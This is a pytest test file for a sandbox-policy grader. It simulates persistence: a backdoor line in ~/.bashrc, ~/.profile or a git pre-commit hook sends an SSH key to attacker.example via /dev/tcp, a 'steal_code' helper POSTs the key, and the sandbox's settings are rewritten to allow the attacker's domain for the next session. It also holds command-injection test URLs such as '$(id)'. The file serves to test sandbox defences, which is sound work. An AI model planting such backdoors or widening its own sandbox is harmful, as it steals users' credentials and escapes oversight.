"""What the next session plays, the backdoors that wait for it, and when the Docker replay plays it: all without Docker."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from grader import load_policy
from grader.backends.docker import replay
from grader.backends.docker.resources import Resources
from grader.backends.runs import RunDir
from grader.core.evidence import Evidence, Markers, sha256
from grader.core.execution import Job
from grader.core.plan import build_plan
from grader.core.next_session import (
    KEY, SETTINGS, backdoor_line, driver_script, parse_driver_output, read_settings, steal_code, step_for, steps,
    widened_settings,
)
from grader.core.world import load_world


def test_the_key_and_the_settings_are_world_files() -> None:
    paths = {f.path for f in load_world().files}
    assert KEY in paths and SETTINGS in paths


def test_steps_source_the_homes_and_each_projects_start_up_files_and_run_the_hook() -> None:
    world = load_world()
    by_id = {s.id: s for s in steps(world)}
    assert by_id["new-terminal"].runs == ("/home/user/.bashrc",)
    assert "/home/user/.bash_profile" in by_id["login-shell"].runs
    assert by_id["posix-login"].runs == ("/home/user/.profile",)
    assert set(by_id["dev-shell-project"].runs) == {"/project/.bash_profile", "/project/.bashrc", "/project/.profile"}
    assert "dev-shell-app-workspace" in by_id
    assert by_id["git-commit-project"].runs == ("/project/.git/hooks/pre-commit",)
    # every file a step runs is a persistence path of the world: the replay plays nothing else
    roles = {f.path: f.role for f in world.files}
    assert {roles[p] for s in steps(world) for p in s.runs} == {"persistence"}


@pytest.mark.parametrize(("path", "when"), [
    ("/home/user/.bashrc", "in the next shell"),
    ("/home/user/.profile", "at the next login"),
    ("/project/.bashrc", "in the next shell of /project's dev container"),
    ("/project/.git/hooks/pre-commit", "at the next git commit in /project"),
])
def test_each_file_fires_at_its_step(path: str, when: str) -> None:
    step = step_for(load_world(), path)
    assert step is not None and step.when == when


def test_a_file_no_step_runs_has_no_step() -> None:
    assert step_for(load_world(), "/home/user/.zshrc") is None  # no zsh in the replay: said, never pretended


def test_the_driver_is_valid_bash_and_its_output_is_read_back_per_step() -> None:
    script = driver_script(load_world())
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    out = "@@sandbox-lab-step new-terminal\nhello\n@@exit 0\n@@sandbox-lab-step git-commit-project\nhint\n@@exit 1\n@@sandbox-lab-step login-shell\n"
    assert parse_driver_output(out) == (("new-terminal", 0, "hello"), ("git-commit-project", 1, "hint"), ("login-shell", None, ""))


def test_the_backdoor_line_is_one_line_of_valid_shell_that_never_fails() -> None:
    line = backdoor_line("http://attacker.example/next/t/p")
    assert "\n" not in line and line.endswith("|| true")
    subprocess.run(["bash", "-n", "-c", line], check=True)
    assert KEY in line and "/dev/tcp/attacker.example/80" in line
    # nowhere to send it (no such name here): the line still succeeds, as a line in ~/.profile must
    assert subprocess.run(["sh", "-c", backdoor_line("http://unresolvable.invalid/x")], timeout=20).returncode == 0


def test_the_backdoor_line_posts_the_key_whole_under_sh(tmp_path: Path) -> None:
    """Run as dash runs ~/.profile and hooks: the attacker's server gets the key as the body of a POST to the path."""
    import http.server
    import threading

    key = tmp_path / "id_rsa"
    key.write_bytes(b"-----BEGIN KEY-----\ncanary-5e1f\n-----END KEY-----\n")
    got: list[tuple[str, str, bytes]] = []

    class Sink(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            got.append((self.path, self.headers["Host"], self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Sink)
    thread = threading.Thread(target=server.handle_request, daemon=True)
    thread.start()
    try:
        line = backdoor_line(f"http://localhost:{server.server_port}/next/tok/persist-bashrc", str(key))
        assert subprocess.run(["sh", "-c", line], timeout=20).returncode == 0
        thread.join(10)
    finally:
        server.server_close()
    assert got == [("/next/tok/persist-bashrc", "localhost", key.read_bytes())]


@pytest.mark.parametrize("url", ["https://attacker.example/x", "http://attacker.example/x'y", "http://a b/x", "http://attacker.example/$(id)"])
def test_a_backdoor_line_refuses_a_url_it_cannot_quote_or_send(url: str) -> None:
    with pytest.raises(ValueError):
        backdoor_line(url)


def test_widened_settings_add_the_attacker_and_keep_the_users_rules() -> None:
    original = load_world().file(SETTINGS).content
    text = widened_settings(original, "attacker.example", "sandbox-lab-write tok write-sandbox-settings")
    data = json.loads(text)
    assert data["network"]["allowedDomains"] == ["attacker.example"]
    assert data["filesystem"] == {"allowWrite": ["/project/out"]}
    assert data["_sandbox_lab_write"] == "sandbox-lab-write tok write-sandbox-settings"
    assert json.loads(widened_settings("not json", "a.example", "m"))["network"]["allowedDomains"] == ["a.example"]


def test_the_next_session_reads_settings_as_a_policy_ignoring_underscore_keys() -> None:
    policy, why = read_settings('{"network": {"allowedDomains": ["attacker.example"]}, "_marker": "x"}')
    assert policy is not None and why == "" and policy.network.allowedDomains == ("attacker.example",)


@pytest.mark.parametrize(("text", "said"), [
    ('{"network": ', "not valid JSON"),
    ("[1]", "not a JSON object"),
    ('{"network": {"allowedDomain": []}}', "not a valid policy"),
])
def test_unreadable_settings_keep_the_next_session_from_starting(text: str, said: str) -> None:
    policy, why = read_settings(text)
    assert policy is None and said in why and why.endswith("the next session would refuse to start")


# --- the Docker replay's decisions that need no Docker (backends/replay.py; played for real in
# tests/integration/test_replay.py) ---


def _ev(before: dict[str, bytes], after: dict[str, bytes]) -> Evidence:
    return Evidence(token="tok", canaries={}, records=(), before={p: sha256(b) for p, b in before.items()}, after=after,
                    network="none")


def test_a_job_replays_only_when_it_asks_and_a_probe_run_whenever_it_writes() -> None:
    plan = build_plan(load_policy({}))
    assert replay.wanted(plan, None)
    assert not replay.wanted(plan, Job(code="pass"))
    assert replay.wanted(plan, Job(code="pass", replay=True))
    reads_only = build_plan(load_policy({}))
    object.__setattr__(reads_only, "probes", ("read-ssh-key",))
    object.__setattr__(reads_only, "scan", False)
    assert not replay.wanted(reads_only, None)


def test_the_scans_own_marks_are_no_change_but_a_backdoor_is() -> None:
    scan = Markers("tok", "attacker.example").scan_text
    rc, hook = "/home/user/.bashrc", "/project/.git/hooks/pre-commit"
    before = {rc: b"# rc\n", hook: b"#!/bin/sh\n", SETTINGS: b"{}\n"}
    after = {rc: b"# rc\n" + scan.encode(), hook: b"#!/bin/sh\npython3 -c ...\n", SETTINGS: b"{}\n" + scan.encode()}
    assert replay.changed_paths(_ev(before, after), {rc, hook, SETTINGS}, scan) == {hook}
    gone = {rc: b"# rc\n", SETTINGS: b"{}\n"}  # the hook was deleted: a change too
    assert replay.changed_paths(_ev(before, gone), {rc, hook, SETTINGS}, scan) == {hook}


class _NoEngine:
    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"the replay touched the engine ({name}) although nothing changed")


def test_nothing_changed_nothing_played_and_the_engine_is_never_asked(tmp_path: Path) -> None:
    plan = build_plan(load_policy({}))

    session = replay.Session(engine=_NoEngine(), run_id="sl-test", token="tok", labels={}, dir=RunDir(tmp_path),
                             copy=_NoEngine(), plan=plan, job=None)
    made = Resources()
    same = {f.path: f.content.encode() for f in plan.world.files}
    ns = replay.play(session, _ev(same, same), made, images=("s", "v"), leftovers=_NoEngine(), disk=_NoEngine(),
                     harden=lambda h: {}, next_sandbox=lambda p, j: (_ for _ in ()).throw(AssertionError("no next sandbox")))
    assert made == Resources()  # nothing made, nothing to remove
    assert ns.played == () and ns.skipped.startswith("nothing the next session runs was changed")


# --- what the replay costs the learner who waits: its internet started early, the shells and the next
# sandboxed session at once ---


@pytest.mark.parametrize("policy, job, expected", [
    # the naive policy: srt keeps the home's start-up files read-only (it starts there), so no shell runs a change
    ({"filesystem": {"allowWrite": ["/home/user/"]}}, None, False),
    ({"filesystem": {"allowWrite": ["/project"]}}, None, True),  # the dev container's start-up files are outside the home
    ({"filesystem": {"allowWrite": ["/project/.git/hooks"]}}, None, True),  # only the hook: still a file a step runs
    ({"filesystem": {"allowWrite": ["/app/workspace/build"]}}, None, False),  # nothing the shells run
    # a write allowed but hidden never reaches the real file: nothing to start early for
    ({"filesystem": {"allowWrite": ["/home/user/"], "denyRead": ["/home/user/"]}}, None, False),
    ({"filesystem": {"allowWrite": ["/app/workspace/build"]}}, Job(code="pass", replay=True), True),  # a job that asks
    ({"filesystem": {"allowWrite": ["/home/user/"]}}, Job(code="pass"), False),  # a job that does not
])
def test_the_shells_internet_starts_early_only_when_the_sandbox_may_write_what_they_run(
        policy: dict[str, Any], job: Job, expected: bool) -> None:
    assert replay.likely(build_plan(load_policy(policy)), job) is expected


class _Internet:
    pass


def test_an_internet_started_early_is_the_runs_to_remove_used_or_not() -> None:
    net = _Internet()
    made = Resources()
    ahead = replay.Ahead(lambda: net)  # type: ignore[arg-type, return-value]
    assert ahead.take(made) is net and ahead.take(made) is net
    ahead.settle(made)
    assert made.internets == [net]  # once, whether the replay took it or not
    unused = Resources()
    replay.Ahead(lambda: net).settle(unused)  # type: ignore[arg-type, return-value]
    assert unused.internets == [net]


def test_an_early_start_that_failed_fails_the_replay_that_needs_it_and_leaves_nothing() -> None:
    def broken() -> Any:
        raise replay.InfrastructureError("the internet did not come up")

    made = Resources()
    ahead = replay.Ahead(broken)
    with pytest.raises(replay.InfrastructureError, match="did not come up"):
        ahead.take(made)
    ahead.settle(made)  # the run's end: nothing to remove, nothing raised
    assert made == Resources()


def test_the_next_sandboxed_session_runs_while_the_shells_play(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import threading

    from grader.core.evidence import NextSession
    from grader.core.execution import Execution

    plan = build_plan(load_policy({"filesystem": {"allowWrite": ["/home/user/"]}}))
    world = plan.world
    both = threading.Barrier(2, timeout=10)  # played one after the other, the first would wait here in vain
    finished: list[str] = []

    def shells(*args: Any, **kwargs: Any) -> NextSession:
        both.wait()
        threading.Event().wait(0.2)  # the next sandboxed session finishes first: the order stays the shells' first
        finished.append("shells")
        return NextSession(played=("new-terminal",), output="shells said")

    def next_sandbox(policy: Any, job: Job) -> Execution:
        assert world.attacker.name in policy.network.allowedDomains  # the rewritten settings' rules
        both.wait()
        finished.append("next-sandbox")
        return Execution(backend="docker", output="next said", exit_code=0, timed_out=False,
                         evidence=Evidence(token="t2", canaries={}, records=(), before={}, after={}, network="proxy"))

    monkeypatch.setattr(replay, "_shells", shells)
    rc = "/home/user/.bashrc"
    original = {f.path: f.content.encode() for f in world.files}
    after = dict(original)
    after[rc] = original[rc] + b"\n" + backdoor_line("http://attacker.example/x").encode() + b"\n"
    after[SETTINGS] = widened_settings(original[SETTINGS].decode(), world.attacker.name, "m").encode()
    ev = Evidence(token="tok", canaries={KEY: "k"}, records=(), before={p: sha256(b) for p, b in original.items()},
                  after=after, network="proxy")
    session = replay.Session(engine=_NoEngine(), run_id="sl-test", token="tok", labels={}, dir=RunDir(tmp_path),
                             copy=_NoEngine(), plan=plan, job=None)
    ns = replay.play(session, ev, Resources(), images=("s", "v"), leftovers=_NoEngine(), disk=_NoEngine(),
                     harden=lambda h: {}, next_sandbox=next_sandbox)
    assert finished == ["next-sandbox", "shells"]
    assert ns.played == ("new-terminal", "next-sandbox")
    assert ns.output.index("shells said") < ns.output.index("next said")
    assert ns.settings.startswith("allowedDomains:") and world.attacker.name in ns.settings


@pytest.mark.parametrize("through_proxy", [True, False])
def test_the_next_sessions_theft_posts_the_whole_key_through_the_proxy_it_is_given_or_straight_there(
        tmp_path: Path, through_proxy: bool) -> None:
    """``steal_code`` as the next sandboxed session runs it: the key's bytes in a POST, to the proxy in the
    environment in absolute form (as urllib sends it), else to the host itself; it exits once answered."""
    import socket
    import sys
    import threading

    key = tmp_path / "id_rsa"
    key.write_bytes(b"\n-----BEGIN KEY-----\ncanary-0123\n")
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    got: list[bytes] = []

    def answer() -> None:
        conn, _ = server.accept()
        with conn:
            data = b""
            while b"\r\n\r\n" not in data or len(data.split(b"\r\n\r\n", 1)[1]) < key.stat().st_size:
                chunk = conn.recv(65536)
                if not chunk:
                    break
                data += chunk
            got.append(data)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    t = threading.Thread(target=answer, daemon=True)
    t.start()
    url = "http://attacker.example/next/t0k3n" if through_proxy else f"http://127.0.0.1:{port}/next/t0k3n"
    env = {"PATH": "/usr/bin:/bin", **({"http_proxy": f"http://127.0.0.1:{port}"} if through_proxy else {})}
    done = subprocess.run([sys.executable, "-c", steal_code(url, str(key))], env=env, capture_output=True, timeout=20)
    t.join(5)
    server.close()
    assert done.returncode == 0 and done.stdout == b"", done
    head, body = got[0].split(b"\r\n\r\n", 1)
    line = head.split(b"\r\n", 1)[0]
    assert line == (b"POST http://attacker.example/next/t0k3n HTTP/1.1" if through_proxy else b"POST /next/t0k3n HTTP/1.1"), line
    assert body == key.read_bytes()
